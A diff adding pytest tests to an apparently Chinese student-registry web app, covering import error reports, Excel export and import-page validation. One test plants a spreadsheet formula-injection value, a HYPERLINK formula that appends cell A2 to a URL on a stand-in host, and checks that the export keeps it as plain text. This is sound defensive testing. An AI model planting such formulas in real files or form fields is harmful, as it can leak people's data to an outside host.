@@ -229,6 +229,17 @@ def test_reasons_name_the_form_field(client: TestClient, as_user: Headers, tmp_p
     messages = [error["message"] for error in errors]
     assert "身份证件类型" in messages[0] and "身份证件类型" in messages[1]
     assert "成员3" in messages[4] and "第二监护人" not in messages[4]
+    # the error report keeps the national layout, every cell as in the file
+    report = read_cells(client.get(str(done["report_url"]), headers=admin).content)
+    assert report[0] == [*HEADERS, "错误原因", "行号"]
+    assert [row[HEADERS.index("身份证件类型")] for row in report[1:]] == [
+        "6",
+        None,
+        "回乡证",
+        "1",
+        "1",
+    ]
+    assert report[4][HEADERS.index("成员1联系电话")] == "0757-83000000"
 
 
 def test_a_student_numbered_before_is_found_by_their_document(
@@ -258,3 +269,47 @@ def test_a_student_numbered_before_is_found_by_their_document(
     assert numbers.count(number) == 1 and not [
         n for n in numbers if n != number and str(n).startswith("J")
     ]
+
+
+def test_the_export_holds_text_never_a_formula(
+    client: TestClient, as_user: Headers, tmp_path: Path
+) -> None:
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    admin = as_user("haikou-admin")
+    formula = '=HYPERLINK("http://example.invalid/?x="&A2,"点此")'
+    values = student(34)
+    assert upload(client, admin, write_national(tmp_path / "f.xlsx", [values]))["new"] == 1
+    typed = client.patch(
+        f"/api/v1/students/{values['registry_no']}/record",
+        json={"values": {"talent": formula}, "reason": "x"},
+        headers=admin,
+    )
+    assert typed.status_code == 200
+    sheet = load_workbook(BytesIO(client.get(EXPORT, headers=admin).content)).active
+    assert sheet is not None
+    column = HEADERS.index("特长") + 1
+    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
+    (cell,) = [cell for cell in cells if cell.value == formula]
+    assert cell.data_type == "s"
+
+
+def test_the_import_page_names_the_national_template_and_the_code(
+    client: TestClient, as_user: Headers, tmp_path: Path
+) -> None:
+    from tests.e2e.test_registry_pages import page_login
+
+    as_user("haikou-admin")
+    token = page_login(client, "haikou-admin")
+    headers = [header for header in HEADERS if header != "民族"]
+    path = write_national(tmp_path / "no-ethnicity.xlsx", [student(35)], headers=headers)
+    page = client.post(
+        "/imports",
+        files={"file": (path.name, path.read_bytes())},
+        data={"csrf_token": token},
+    )
+    assert page.status_code == 422
+    assert "民族" in page.text and "全国学籍模板" in page.text
+    assert "IMPORT_HEADER_MISSING" in page.text
